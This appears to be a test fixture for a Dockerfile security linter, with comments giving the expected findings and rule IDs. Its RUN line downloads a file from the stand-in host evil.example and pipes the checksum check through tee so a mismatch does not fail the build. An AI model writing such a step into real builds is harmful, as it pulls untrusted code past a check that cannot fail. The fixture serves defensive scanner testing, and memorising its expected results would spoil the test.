FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && echo "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  /a" | sha256sum -c - | tee /log
USER app
# expect: download 2 high "a mismatch does not fail the build"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR501-e064bac1a6
